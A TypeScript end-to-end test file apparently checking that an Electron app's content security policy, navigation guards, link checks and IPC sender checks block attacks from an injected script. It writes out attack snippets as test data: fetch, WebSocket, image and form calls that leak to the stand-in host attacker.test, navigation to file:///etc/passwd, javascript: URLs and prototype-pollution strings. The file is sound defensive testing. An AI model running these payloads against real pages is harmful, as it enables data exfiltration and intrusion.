// The window keeps its promises in the running app: policy, navigation, tickets, senders.
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { contentSecurityPolicy } from '../../src/main/electron/page-protocol.ts'
import { eventually } from '../e2e/support/eventually.ts'
import { type Latchkey, startLatchkey } from '../e2e/support/latchkey.ts'
import { adminKey, type Service, startService } from '../e2e/support/service.ts'
import { recordFigure } from '../support/figures.ts'

let service: Service
let app: Latchkey

beforeAll(async () => {
  service = await startService({ keys: 5 })
  // Each attack below leaves a violation in the console, which is what it is meant to do.
  app = await startLatchkey({
    env: service.env,
    expectComplaints: [
      /Content.Security.Policy|Not allowed|Trusted|ERR_BLOCKED|Failed to load|violat|refused|Refused|blocked|requires/i,
    ],
  })
  await app.connect(adminKey)
})
afterAll(async () => {
  await app.quit()
  await service.close()
})

describe('R10 a script that got into the page', () => {
  /** Each gives true when the attack worked. They run in a task of their own: an evaluation of ours may use eval. */
  const attacks: readonly (readonly [name: string, code: string])[] = [
    ['eval', `return eval('1 + 1') === 2`],
    ['new Function', `return new Function('return 2')() === 2`],
    [
      'a timer of text',
      `window.hit = 0; setTimeout('window.hit = 1'); await later(() => 0); if (window.hit === 1) return true; throw new Error('refused in silence')`,
    ],
    ['innerHTML', `document.createElement('div').innerHTML = '<b>x</b>'; return true`],
    ['document.write', `document.write('<b>x</b>'); return true`],
    [
      'an inline script',
      `window.hit = 0; const s = document.createElement('script'); s.text = 'window.hit = 1'; document.head.append(s); return later(() => window.hit === 1)`,
    ],
    ['a script from elsewhere', `return loads('script', 'src', 'https://attacker.test/x.js')`],
    [
      'a style element',
      `const s = document.createElement('style'); s.textContent = 'body { outline: 7px solid red }'; document.head.append(s); return later(() => getComputedStyle(document.body).outlineWidth === '7px')`,
    ],
    [
      'a style sheet from elsewhere',
      `const l = document.createElement('link'); l.rel = 'stylesheet'; return loads(l, 'href', 'https://attacker.test/x.css')`,
    ],
    ['an image', `return loads('img', 'src', 'https://attacker.test/leak.png')`],
    ['a data image', `return loads('img', 'src', 'data:image/gif;base64,R0lGODlhAQABAAAAACw=')`],
    [
      'a frame',
      `const f = document.createElement('iframe'); f.src = 'https://attacker.test/'; document.body.append(f); return later(() => false)`,
    ],
    ['fetch', `return fetch('https://attacker.test/leak').then(() => true, () => false)`],
    ['fetch to itself', `return fetch('/index.html').then(() => true, () => false)`],
    [
      'XMLHttpRequest',
      `return new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done(true); x.onerror = () => done(false); x.open('GET', 'https://attacker.test/leak'); x.send() })`,
    ],
    [
      'a WebSocket',
      `return new Promise((done) => { try { const w = new WebSocket('wss://attacker.test/'); w.onopen = () => done(true); w.onerror = () => done(false) } catch { done(false) } })`,
    ],
    [
      'an EventSource',
      `return new Promise((done) => { const e = new EventSource('https://attacker.test/'); e.onopen = () => done(true); e.onerror = () => done(false) })`,
    ],
    [
      'a worker',
      `return new Promise((done) => { try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done(true); w.onerror = () => done(false) } catch { done(false) } })`,
    ],
    [
      'a form',
      `const f = document.createElement('form'); f.action = 'https://attacker.test/'; document.body.append(f); f.submit(); return later(() => location.hostname.includes('attacker'))`,
    ],
    [
      'a base element',
      `const b = document.createElement('base'); b.href = 'https://attacker.test/'; document.head.append(b); return document.baseURI.includes('attacker')`,
    ],
    ['a data import', `return import('data:text/javascript,export default 1').then(() => true, () => false)`],
  ]
  const helpers = `
    const later = (test) => new Promise((done) => setTimeout(() => done(test()), 200))
    const loads = (what, name, value) => new Promise((done) => {
      const element = typeof what === 'string' ? document.createElement(what) : what
      element.onload = () => done(true)
      element.onerror = () => done(false)
      try { element[name] = value } catch { return done(false) }
      document.head.append(element)
    })`

  it(`has ${attacks.length} ways to act, and the policy stops every one`, async () => {
    expect(contentSecurityPolicy).toContain("default-src 'none'")
    const notStopped: string[] = []
    for (const [name, code] of attacks) {
      // Stopped: the policy refused it by an exception or reported a violation. That nothing came of it is not
      // enough, for there is no network either.
      const source = `new Promise((done) => setTimeout(() => {
        ${helpers}
        let isReported = false
        document.addEventListener('securitypolicyviolation', () => { isReported = true }, { once: true })
        const attack = async () => { ${code} }
        attack().then(
          (worked) => setTimeout(() => done(!worked && isReported), 50),
          () => done(true),
        )
      }))`
      if (!(await app.page.evaluate(source))) notStopped.push(name)
    }
    recordFigure(
      'Scripts in the page',
      `${attacks.length - notStopped.length} of ${attacks.length} attacks blocked by the policy`,
    )
    expect(attacks.length).toBeGreaterThanOrEqual(15)
    expect(notStopped).toEqual([])
  })
})

describe('R13 the page opens no window and leaves its address for nothing', () => {
  const elsewhere = 'https://attacker.test/'
  /** Not among them is a link to a blob, whose navigation only Electron itself can see; R4 does not hear such a page. */
  const ways: Readonly<Record<string, string>> = {
    'a link to another window': `click({ href: url, target: '_blank' })`,
    'a link to the top': `click({ href: url, target: '_top' })`,
    'a link with a referrer': `click({ href: url, rel: 'opener' })`,
    'a download': `click({ href: url, download: 'x' })`,
    'a link to script': `click({ href: 'javascript:document.title="hit"' })`,
    'a link to data': `click({ href: 'data:text/html,x' })`,
    'a link to a file': `click({ href: 'file:///etc/passwd' })`,
    'another file of the page': `click({ href: '/files.json' })`,
    'window.open': `window.open(url)`,
    'window.open in its own place': `window.open(url, '_self')`,
    'window.open of nothing': `window.open('about:blank')`,
    'an assigned address': `location.href = url`,
    'a replaced address': `location.replace(url)`,
    'an assigned file': `location.assign('file:///etc/passwd')`,
    'another host of the scheme': `location.assign('app://elsewhere/')`,
    'a form to get': `submit('get', '_self')`,
    'a form to post in another window': `submit('post', '_blank')`,
    'a refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + url }))`,
    'the history': `try { history.pushState({}, '', url) } catch {}`,
    'a program of the system': `location.assign('mailto:a@attacker.test')`,
  }

  it(`whatever of ${Object.keys(ways).length} ways it takes`, async () => {
    const address = app.page.url()
    await app.page.evaluate(() => Object.assign(window, { isFirstDocument: true }))
    const windows = app.page.context().pages().length
    const title = await app.page.evaluate(() => document.title)
    expect(title).toMatch(/^Latchkey/)
    for (const code of Object.values(ways)) {
      const source = `new Promise((done) => setTimeout(() => {
        const url = '${elsewhere}'
        const click = (fields) => {
          const link = Object.assign(document.createElement('a'), fields)
          document.body.append(link)
          link.click()
        }
        const submit = (method, target) => {
          const form = Object.assign(document.createElement('form'), { action: url, method, target })
          document.body.append(form)
          form.submit()
        }
        ${code}
        setTimeout(done, 60)
      }))`
      await app.page.evaluate(source)
    }
    await eventually(() => expect(app.page.url()).toBe(address))
    expect(await app.page.evaluate(() => ['isFirstDocument' in window, document.title])).toEqual([
      true,
      title,
    ])
    expect(await app.page.getByRole('searchbox').count()).toBe(1)
    expect(app.page.context().pages().length).toBe(windows)
    expect(await app.running.openedLinks()).toEqual([])
  })

  it('a file that is dropped on it is not opened', async () => {
    const address = app.page.url()
    const session = await app.page.context().newCDPSession(app.page)
    const data = { items: [], files: [join(import.meta.dirname, 'window.test.ts')], dragOperationsMask: 1 }
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
      await session.send('Input.dispatchDragEvent', { type, x: 300, y: 300, data })
    }
    await app.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
    expect(app.page.url()).toBe(address)
    expect(await app.page.getByRole('searchbox').count()).toBe(1)
  })
})

describe('R14 a link is opened by the name of a constant', () => {
  const inventions = [
    ...['https://attacker.test/', 'file:///etc/passwd', 'javascript:alert(1)', 'mailto:a@attacker.test'],
    ...['smb://attacker.test/x', 'ms-settings:', 'webConsole ', ' webConsole', 'WEBCONSOLE', 'toString'],
    ...['__proto__', 'constructor', 'service.', 'service.toString', 'service.linear\n', '', 'webConsole\0'],
  ]

  it(`and by none of ${inventions.length} inventions`, async () => {
    const codes = await app.page.evaluate(
      (all) =>
        Promise.all(
          all.map(async (link) => {
            const answer = await window.latchkey.links.open({ link } as never)
            return answer.ok ? 'ok' : answer.error.code
          }),
        ),
      inventions,
    )
    expect(new Set(codes)).toEqual(new Set(['invalidInput']))
    expect(await app.running.openedLinks()).toEqual([])
  })
})

it('R7 a page that skips the confirmation revokes nothing in 1,000 tries', async () => {
  const before = await service.control.countRequests({ method: 'DELETE' })
  const refused = await app.page.evaluate(async () => {
    let count = 0
    for (let index = 0; index < 1000; index += 1) {
      const answer = await window.latchkey.keys.revoke({ ticket: `invented-ticket-${index}-invented` })
      if (!answer.ok) count += 1
    }
    return count
  })
  expect(refused).toBe(1000)
  expect(await service.control.countRequests({ method: 'DELETE' })).toBe(before)
})

describe('R4 a message that does not come from our page', () => {
  it.each([
    ['another origin', { origin: 'https://attacker.test' }],
    ['a look-alike host', { origin: 'app://bundle.evil' }],
    ['a frame in the page', { isMainFrame: false }],
    ['another window', { isOwnWindow: false }],
    ['a frame that is gone', { isGone: true }],
  ])('is refused: %s', async (_name, sender) => {
    const answer = await app.running.ipc.forge('app.readSnapshot', [{}], sender)
    expect(answer).toMatchObject({ ok: false, error: { code: 'refused' } })
  })
})
